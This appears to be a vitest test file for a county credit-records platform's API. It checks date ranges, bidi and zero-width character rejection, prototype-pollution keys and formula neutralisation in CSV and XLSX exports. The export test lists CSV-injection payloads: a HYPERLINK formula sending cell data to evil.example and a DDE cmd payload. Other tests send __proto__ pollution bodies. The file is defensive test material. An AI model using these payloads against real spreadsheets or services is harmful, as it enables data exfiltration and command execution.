/**
 * Input rules of issue 13, classes 3e and 3f, through the real route declarations (functions/catalog.ts)
 * and the shared HTTP middleware, with a use case that only records what it was given: a date in a body,
 * query or path is a real day in the platform's range (a decision and an issue date not after the
 * request's day, a birth date inside a resident ID neither); a name or code holds no bidi or zero-width
 * control character; a body has no `__proto__`, `constructor` or `prototype` key anywhere; every cell
 * of a usage-list export, header rows included, is neutralised against formulas. The request's day
 * comes from the event (requestContext.timeEpoch), never from the clock.
 */
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import type { Context } from 'aws-lambda';
import { loadCounty } from '../../shared/config/load-counties.ts';
import { recordInput } from '../../shared/records/record-input.ts';
import { residentIdCheckDigit } from '../../shared/subjects/resident-id.ts';
import { usccCheckCharacter } from '../../shared/subjects/uscc.ts';
import { toCsv, toXlsx, usageListSheet } from '../../shared/usage-lists/usage-list-export.ts';
import type { UsageListRow } from '../../shared/usage-lists/usage-list.ts';

vi.hoisted(() => {
  process.env.POWERTOOLS_LOG_LEVEL ??= 'WARN';
});

const county = loadCounty('jiaxian');
const context = { functionName: 'test', awsRequestId: 'req-1', getRemainingTimeInMillis: () => 1000 } as unknown as Context;
/** The request's instant: 2026-11-23 10:00 in Beijing, so its county-local day is 2026-11-23. */
const requestDay = '2026-11-23';
const requestEpoch = Date.parse('2026-11-23T10:00:00+08:00');
const dayAfter = '2026-11-24';

const uscc = (body: string) => {
  const first17 = `91${county.divisionCode}${body}`;
  return first17 + usccCheckCharacter(first17);
};
const residentId = (birth: string) => {
  const first17 = `${county.divisionCode}${birth}123`;
  return first17 + residentIdCheckDigit(first17);
};
const organ = `11${county.divisionCode}MB0000001`;
const authorityUscc = organ + usccCheckCharacter(organ);

const licence = (overrides: Record<string, unknown> = {}) => ({
  kind: 'licence',
  subject: { name: '某某建材有限公司', category: 'legalPerson', uscc: uscc('MA45E8TH5'), legalRepresentative: '王法人' },
  decisionNumber: '市监许〔2026〕101号',
  decisionDate: '2026-11-02',
  authority: { name: '某县市场监督管理局', uscc: authorityUscc },
  sourceDepartment: '某县市场监督管理局',
  licenceDocumentName: '食品经营许可决定书',
  licenceCategory: '普通',
  licenceContent: '预包装食品销售',
  validFrom: '2026-11-02',
  ...overrides,
});
const person = (birth: string) => ({ name: '张示范', category: 'naturalPerson', residentId: residentId(birth) });

type Result = { statusCode: number; body: string };
type Route = (event: unknown, context: Context) => Promise<Result>;
interface Answer {
  status: number;
  field?: string;
  message?: string;
  /** Whether the use case ran (it only does when every part of the request passed its schema). */
  ran: boolean;
}

const routes = new Map<string, { route: Route; role: string; ran: { value: boolean } }>();

beforeAll(async () => {
  process.env.COUNTY_CONFIG = JSON.stringify(county);
  const { functions } = await import('../../functions/catalog.ts');
  const { httpHandler } = await import('../../shared/http/http-handler.ts');
  const { machineHttpHandler } = await import('../../shared/http/machine-http-handler.ts');
  for (const declared of functions) {
    const trigger = declared.trigger;
    if (trigger.type !== 'http') continue;
    const ran = { value: false };
    const allowed = 'roles' in trigger.access ? trigger.access.roles : ['department'];
    // A subject or an institution caller needs its ID sealed (the personal-data key): take a role without.
    const role = allowed.find((r) => r !== 'subject' && r !== 'institution') ?? allowed[0]!;
    // A route offered to machines has the machine handler (the people's refuses to wrap it): the same rules for a person.
    const wrap = 'machine' in trigger ? machineHttpHandler : httpHandler;
    routes.set(declared.name, { route: wrap(trigger as never, async () => ((ran.value = true), { body: {} })) as unknown as Route, role, ran });
  }
});

/** Calls a declared route with this path, query and body (a string is sent as it is), at the request instant. */
async function call(name: string, request: { params?: Record<string, string>; query?: Record<string, string>; body?: unknown }): Promise<Answer> {
  const { route, role, ran } = routes.get(name)!;
  ran.value = false;
  const event = JSON.parse(readFileSync(new URL('../../events/get-caller.json', import.meta.url), 'utf8'));
  event.requestContext.timeEpoch = requestEpoch;
  event.requestContext.authorizer.jwt.claims['custom:role'] = role;
  const orgIds: Record<string, string> = { creditOffice: 'credit-office', agency: 'agency-xinyuan', department: 'dept-finance', subject: uscc('MA2Y7C8K4'), institution: uscc('MA2Y7C8K4') };
  event.requestContext.authorizer.jwt.claims['custom:orgId'] = orgIds[role];
  event.requestContext.authorizer.jwt.claims['custom:county'] = county.id;
  event.pathParameters = request.params ?? {};
  event.queryStringParameters = request.query ?? {};
  if (request.body !== undefined) event.body = typeof request.body === 'string' ? request.body : JSON.stringify(request.body);
  const result = await route(event, context);
  const error = JSON.parse(result.body)?.error;
  return { status: result.statusCode, field: error?.field, message: error?.message, ran: ran.value };
}

const accepted = { ran: true, field: undefined };
const refusedNaming = (field: string) => ({ status: 400, field, ran: false });
const recordId = 'rec_AAAAAAAAAAAAAAAAAAAAAA';
const correct = (record: unknown) => call('correct-record', { params: { id: recordId }, body: { record, reason: '更正', expectedVersion: 1 } });

describe('real dates in a plausible range, in every part of a request', () => {
  const impossible = ['2026-02-30', '2026-13-01', '2026-00-10', '2026-04-31', '2025-02-29'];
  const implausible = ['0001-01-01', '1900-01-01', '1949-09-30', '9999-12-31', '2100-01-01'];

  it.each([...impossible, ...implausible])('GET /checks?from=%s&to=… is 400 naming query.from', async (day) => {
    expect(await call('list-checks', { query: { from: day, to: requestDay } })).toMatchObject(refusedNaming('query.from'));
    expect(await call('list-checks', { query: { from: '2026-11-01', to: day } })).toMatchObject(refusedNaming('query.to'));
  });

  it.each([...impossible, ...implausible, '275760-09-13', '+275760-09-13'])('GET /public/county?date=%s is 400 naming query.date (no RangeError, no 500)', async (day) => {
    expect(await call('get-county-profile', { query: { date: day } })).toMatchObject(refusedNaming('query.date'));
  });

  it.each(implausible)('GET /public/notices and GET /notices with date=%s are 400 naming query.date', async (day) => {
    expect(await call('list-public-notices', { query: { date: day } })).toMatchObject(refusedNaming('query.date'));
    expect(await call('list-notices', { query: { from: day } })).toMatchObject(refusedNaming('query.from'));
  });

  it('takes the first and last days of the range, and a leap day', async () => {
    for (const day of ['1949-10-01', '2099-12-31', '2028-02-29']) expect(await call('get-county-profile', { query: { date: day } })).toMatchObject(accepted);
  });

  it.each([...impossible, '1949-09-30', '0001-01-01'])('a report issued on %s is refused when announced (POST /reports/uploads), naming body.issueDate', async (day) => {
    const body = { subjectId: uscc('MA45E8TH5'), reportNumber: 'XY-1', reportType: 'comprehensive', issueDate: day, rating: 'A' };
    expect(await call('create-report-upload', { body })).toMatchObject(refusedNaming('body.issueDate'));
  });

  it('a report issued after the request day is refused by the schema; one issued that day is taken', async () => {
    const body = (issueDate: string) => ({ subjectId: uscc('MA45E8TH5'), reportNumber: 'XY-1', reportType: 'comprehensive', issueDate, rating: 'A' });
    expect(await call('create-report-upload', { body: body(dayAfter) })).toMatchObject({ ...refusedNaming('body.issueDate'), message: `body.issueDate: must not be after today (${requestDay})` });
    expect(await call('create-report-upload', { body: body(requestDay) })).toMatchObject(accepted);
  });

  it('a consent cannot end on a day that does not exist, nor in 9999', async () => {
    const body = (expiresOn: string) => ({ grantee: uscc('MA45E8TH5'), purpose: { category: 'loan', text: '贷款' }, scope: { records: true, reports: false }, expiresOn });
    for (const day of ['2026-02-30', '9999-12-31']) expect(await call('create-consent', { body: body(day) })).toMatchObject({ status: 400, field: 'body.expiresOn' });
  });

  it('a decision before 1949-10-01 or after the request day is refused, naming the field', async () => {
    for (const day of ['1949-09-30', '1900-01-01', '0001-01-01'])
      expect(recordInput.safeParse(licence({ decisionDate: day })).error?.issues[0]).toMatchObject({ path: ['decisionDate'], message: 'must not be before 1949-10-01' });
    expect(recordInput.safeParse(licence({ decisionDate: '1949-10-01', validFrom: '1949-10-01' })).success).toBe(true);
    expect(await correct(licence({ decisionDate: dayAfter }))).toMatchObject({ ...refusedNaming('body.record.decisionDate'), message: `body.record.decisionDate: must not be after today (${requestDay})` });
    expect(await correct(licence({ decisionDate: requestDay }))).toMatchObject(accepted);
  });

  it.each([
    ['validFrom', '0001-01-01'],
    ['validTo', '9999-12-31'],
    ['validTo', '2026-02-30'],
  ])('a licence with %s %s is refused, naming it', async (field, day) => {
    expect(await correct(licence({ [field]: day }))).toMatchObject(refusedNaming(`body.record.${field}`));
  });

  it('a licence valid without end written as 2099-12-31 (the dual-publicity convention) is taken', () => {
    expect(recordInput.safeParse(licence({ validTo: '2099-12-31' })).success).toBe(true);
  });

  it('a listing until 9999-12-31 is refused, naming listedUntil', () => {
    const listing = { ...licence(), kind: 'blackList', listName: 'major-tax-violation', listingBasis: '重大税收违法', listedUntil: '9999-12-31' } as Record<string, unknown>;
    for (const key of ['licenceDocumentName', 'licenceCategory', 'licenceContent', 'validFrom']) delete listing[key];
    expect(recordInput.safeParse(listing).error?.issues[0]).toMatchObject({ path: ['listedUntil'] });
  });

  it('a resident ID whose birth date is after the request day is refused wherever a subject is named', async () => {
    const unborn = residentId(dayAfter.replaceAll('-', ''));
    const bornToday = residentId(requestDay.replaceAll('-', ''));
    const matter = { type: county.matterTypes[0]!.id, reference: 'ZC-1', name: '办公设备采购' };
    expect(await call('run-check', { body: { subjectId: unborn, matter } })).toMatchObject(refusedNaming('body.subjectId'));
    expect(await call('run-check', { body: { subjectId: bornToday, matter } })).toMatchObject(accepted);
    expect(await call('list-subject-records', { params: { subjectId: unborn } })).toMatchObject(refusedNaming('path.subjectId'));
    expect(await call('create-report-upload', { body: { subjectId: unborn, reportNumber: 'XY-2', reportType: 'special', issueDate: requestDay, rating: 'B' } })).toMatchObject(refusedNaming('body.subjectId'));
    expect(await correct(licence({ subject: person(dayAfter.replaceAll('-', '')) }))).toMatchObject(refusedNaming('body.record.subject.residentId'));
    expect(await correct(licence({ subject: person('20991231') }))).toMatchObject(refusedNaming('body.record.subject.residentId'));
    expect(await correct(licence({ subject: person(requestDay.replaceAll('-', '')) }))).toMatchObject(accepted);
  });

  it('an issue date that gives no end of validity settles the upload as rejected, with a reason', async () => {
    const { validityEnd, rejectionReason } = await import('../../shared/reports/report-rules.ts');
    const { workingDayCalendar } = await import('../../shared/calendar/working-day-calendar.ts');
    const calendar = workingDayCalendar(county.calendar);
    for (const issueDate of ['2026-02-30', '0001-01-01', 'x', '275760-09-13']) {
      expect(validityEnd(issueDate, 12, calendar)).toBeUndefined();
      const reason = rejectionReason({ content: Buffer.from('%PDF-1.7\n%%EOF'), sizeBytes: 100, maxBytes: 1000, agencyStatus: 'active', issueDate, validUntil: undefined, today: requestDay });
      expect(reason).toMatch(/issue date .* is not a real date/);
    }
    expect(validityEnd('2026-11-02', 12, calendar)).toBe('2027-11-02');
  });
});

describe('names and codes without bidi or zero-width control characters', () => {
  const controls = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'];
  const hex = (c: string) => `U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;
  const inside = (text: string, c: string) => `${text.slice(0, 2)}${c}${text.slice(2)}`;

  it.each(controls.map((c) => [hex(c), c]))('%s in any name or code of a record is refused, naming the field', async (_, c) => {
    const fields: [string, (value: string) => Record<string, unknown>, string][] = [
      ['subject.name', (v) => ({ subject: { ...licence().subject, name: v } }), '某某建材有限公司'],
      ['subject.legalRepresentative', (v) => ({ subject: { ...licence().subject, legalRepresentative: v } }), '王法人'],
      ['authority.name', (v) => ({ authority: { ...licence().authority, name: v } }), '某县市场监督管理局'],
      ['sourceDepartment', (v) => ({ sourceDepartment: v }), '某县市场监督管理局'],
      ['decisionNumber', (v) => ({ decisionNumber: v }), '市监许〔2026〕101号'],
      ['licenceDocumentName', (v) => ({ licenceDocumentName: v }), '食品经营许可决定书'],
      ['certificateNumber', (v) => ({ certificateNumber: v }), 'JY14104250001'],
    ];
    for (const [field, change, text] of fields) {
      const answer = await correct(licence(change(inside(text, c))));
      expect(answer, field).toMatchObject(refusedNaming(`body.record.${field}`));
      expect(answer.message, field).toContain(hex(c));
    }
  });

  it.each(controls.map((c) => [hex(c), c]))('%s in a department, agency, matter, submitter, report number or file name is refused, naming the field', async (_, c) => {
    const matter = { type: county.matterTypes[0]!.id, reference: 'ZC-1', name: '办公设备采购' };
    const cases: [string, Promise<Answer>][] = [
      ['body.name', call('register-department', { body: { orgId: 'dept-finance', name: inside('某县财政局', c) } })],
      ['body.name', call('register-agency', { body: { agencyId: 'agency-x', name: inside('某信用服务有限公司', c), uscc: uscc('MA45E8TH5'), filingNumber: '信备〔2026〕9号', filingAuthority: '县信用办' } })],
      ['body.filingNumber', call('register-agency', { body: { agencyId: 'agency-x', name: '某信用服务有限公司', uscc: uscc('MA45E8TH5'), filingNumber: inside('信备〔2026〕9号', c), filingAuthority: '县信用办' } })],
      ['body.matter.name', call('run-check', { body: { subjectId: uscc('MA45E8TH5'), matter: { ...matter, name: inside(matter.name, c) } } })],
      ['body.matter.reference', call('run-check', { body: { subjectId: uscc('MA45E8TH5'), matter: { ...matter, reference: inside(matter.reference, c) } } })],
      ['body.submitter', call('submit-usage-list', { params: { period: '2026-10' }, body: { submitter: inside('张会计', c) } })],
      ['body.reportNumber', call('create-report-upload', { body: { subjectId: uscc('MA45E8TH5'), reportNumber: inside('XY-2026-1', c), reportType: 'comprehensive', issueDate: requestDay, rating: 'A' } })],
      ['body.evidence.0.fileName', call('raise-objection', { body: { recordId, reason: '记录有误', evidence: [{ fileName: inside('invoice.pdf', c), contentType: 'application/pdf', bytes: 10 }] } })],
    ];
    for (const [field, answer] of cases) expect(await answer, field).toMatchObject(refusedNaming(field));
  });

  it('takes names as people write them: a middle dot, full-width brackets, Latin letters, spaces between words', async () => {
    for (const name of ['阿卜杜·热合曼', '某某（赞皇）商贸有限公司', 'ABC Trading 有限公司', '王 小明'])
      expect(await correct(licence({ subject: { ...licence().subject, name } }))).toMatchObject(accepted);
    expect(await call('register-department', { body: { orgId: 'dept-finance', name: '某县财政局（政府采购）' } })).toMatchObject(accepted);
  });

  it('free text (facts, reasons) is not held to the rule for names', async () => {
    expect(await correct(licence({ licenceContent: '预包装食品销售\u200b' }))).toMatchObject(accepted);
  });
});

describe('__proto__, constructor and prototype keys are refused anywhere in a body, naming the key', () => {
  it.each(['__proto__', 'constructor', 'prototype'])('"%s" at the top, inside an object, inside a record and inside a batch', async (key) => {
    const objectBody = (inner: string) => `{"orgId":"dept-finance","name":"某县财政局",${inner}}`;
    expect(await call('register-department', { body: objectBody(`"${key}":{"isAdmin":true}`) })).toMatchObject(refusedNaming(`body.${key}`));
    const check = `{"subjectId":"${uscc('MA45E8TH5')}","matter":{"type":"${county.matterTypes[0]!.id}","reference":"r","name":"n","${key}":{"x":1}}}`;
    expect(await call('run-check', { body: check })).toMatchObject(refusedNaming(`body.matter.${key}`));
    // POST /records takes a loose object (each record is validated in the use case): the key must not reach it.
    expect(await call('push-records', { body: `{"kind":"licence","${key}":{"polluted":true}}` })).toMatchObject(refusedNaming(`body.${key}`));
    expect(await call('push-records', { body: `{"records":[{"kind":"licence"},{"kind":"licence","authority":{"${key}":{"polluted":true}}}]}` })).toMatchObject(refusedNaming(`body.records.1.authority.${key}`));
    // A corrected field is a free record of fields: the key must not reach the merge.
    const answer = `{"outcome":"corrected","reasoning":"核实更正","correctedFields":{"${key}":{"polluted":true}}}`;
    expect(await call('answer-objection', { params: { id: 'obj_AAAAAAAAAAAAAAAAAAAAAA' }, body: answer })).toMatchObject(refusedNaming(`body.correctedFields.${key}`));
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('the same names as values, or inside other names, are ordinary', async () => {
    expect(await call('register-department', { body: { orgId: 'dept-finance', name: '__proto__' } })).toMatchObject(accepted);
    expect(await call('push-records', { body: { kind: 'licence', constructorName: 'x' } })).toMatchObject(accepted);
  });

  it('a body nested 200,000 levels deep is looked through without a stack overflow (no 500)', async () => {
    const depth = 200_000; // far beyond the call stack (about 10,000 frames)
    const deep = (inner: string) => `{"records":[${'['.repeat(depth)}${inner}${']'.repeat(depth)}]}`;
    expect((await call('push-records', { body: deep('') })).status).toBeLessThan(500);
    expect(await call('push-records', { body: deep('{"__proto__":1}') })).toMatchObject({ status: 400, ran: false });
  });
});

describe('every cell of a usage-list export is neutralised against formulas, header rows included', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+1+1', '-2+3', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '－1', '＋1', '＠SUM(A1)'];
  const formulaStart = /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
  const row = (text: string, i: number): UsageListRow => ({ checkId: `chk_${i}`, subjectName: text, matter: text, date: '2026-11-02', usage: text, measures: text, outcomeRecorded: true });
  const sheet = usageListSheet({ departmentName: hostile[0]!, submitter: hostile[3]!, submittedOn: '2026-12-01', rows: [...hostile.map(row), row('张三建材有限公司', 99)] });

  /** RFC 4180 fields, as Excel and LibreOffice read them. */
  function parseCsv(text: string): string[][] {
    const lines: string[][] = [];
    let line: string[] = [];
    let field = '';
    let quoted = false;
    for (let i = 0; i < text.length; i += 1) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 1);
        else if (c === '"') quoted = false;
        else field += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') line.push(field), (field = '');
      else if (c === '\r' && text[i + 1] === '\n') line.push(field), lines.push(line), (line = []), (field = ''), (i += 1);
      else field += c;
    }
    return lines;
  }
  const csvCells = () => parseCsv(toCsv(sheet).subarray(3).toString('utf8'));
  async function xlsxCells(): Promise<string[][]> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(sheet, '2026年11月', new Date(requestEpoch))) as never);
    const lines: string[][] = [];
    workbook.worksheets[0]!.eachRow((r) => {
      const cells: string[] = [];
      r.eachCell((cell) => {
        if (cell.isMerged && cell.master !== cell) return;
        expect(cell.type, `cell ${cell.address} holds a formula`).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(String(cell.value ?? ''));
      });
      lines.push(cells);
    });
    return lines;
  }

  it('CSV: no cell starts like a formula, the header rows (单位, 报送人) included', () => {
    const cells = csvCells();
    expect(cells[1]).toEqual(['单位：', `'${hostile[0]}`]);
    expect(cells[2]).toEqual(['报送人：', `'${hostile[3]}`]);
    expect(cells.flat().filter((cell) => formulaStart.test(cell))).toEqual([]);
  });

  it('XLSX: no cell starts like a formula or holds one, header rows included; the same cells as the CSV', async () => {
    const cells = await xlsxCells();
    expect(cells.flat().filter((cell) => formulaStart.test(cell))).toEqual([]);
    // XML reads a CR back as LF (exceljs writes it raw): the same cells otherwise.
    expect(cells).toEqual(csvCells().map((line) => line.map((cell) => cell.replaceAll('\r', '\n'))));
  });

  it('keeps the text as typed behind the apostrophe, and leaves ordinary cells alone', () => {
    const cells = csvCells();
    const rows = cells.slice(5);
    expect(rows.map((r) => r[0])).toEqual([...hostile.map((h) => `'${h}`), '张三建材有限公司']);
    expect(rows.map((r) => r[2])).toEqual(Array(hostile.length + 1).fill('2026-11-02'));
    expect(cells[3]).toEqual(['报送日期：', '2026-12-01']);
  });
});
